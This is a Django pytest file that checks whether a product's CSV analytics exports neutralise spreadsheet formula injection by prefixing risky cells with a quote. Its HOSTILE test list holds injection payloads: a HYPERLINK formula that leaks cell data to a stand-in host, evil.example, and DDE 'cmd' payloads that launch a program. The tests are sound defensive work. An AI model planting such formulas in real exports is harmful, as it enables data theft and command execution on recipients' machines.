"""CSV exports never hand a spreadsheet a formula: text from customers that starts with =, +, -, @, a tab or a
carriage return comes out with a leading quote (OWASP), numbers come out as they are."""

import csv
import io

import pytest
from django.urls import reverse

from apps.analytics.tasks import refresh_rollups_task
from apps.conversations.models import Message
from apps.core.spreadsheets import spreadsheet_cell
from apps.customers.models import Identity

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client, name, params) -> list[list[str]]:
    response = client.get(reverse("analytics:export", args=[name]), params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_every_hostile_cell_is_quoted_in_the_exports(world, login):
    messages = list(
        Message.objects.filter(conversation__brand=world["brand"], direction="inbound").order_by("pk")[:6]
    )
    for message, text in zip(messages, HOSTILE, strict=True):
        message.text = text
        message.save(update_fields=["text"])
    author = messages[0].author_identity
    Identity.objects.filter(pk=author.pk).update(handle="=cmd|' /C calc'!A0", display_name="-10+20")
    refresh_rollups_task()
    client = login(world["marketer"])
    params = {"brand": world["brand"].pk, "range": "30d"}

    rows = _csv(client, "messages", params)
    texts = {int(row[0]): row[8] for row in rows[1:]}
    for message, text in zip(messages, HOSTILE, strict=True):
        assert texts[message.pk] == "'" + text
    authors = {row[0]: row for row in _csv(client, "authors", params)[1:]}
    assert authors[str(author.pk)][1:3] == ["'=cmd|' /C calc'!A0", "'-10+20"]
    # Every cell of every export: none starts as a formula would.
    for name in ("messages", "authors", "terms", "volume", "channels", "response-team"):
        for row in _csv(client, name, params):
            assert not [cell for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}], (name, row)


def test_numbers_are_left_alone():
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(2.5) == 2.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("plain") == "plain" and spreadsheet_cell("") == ""
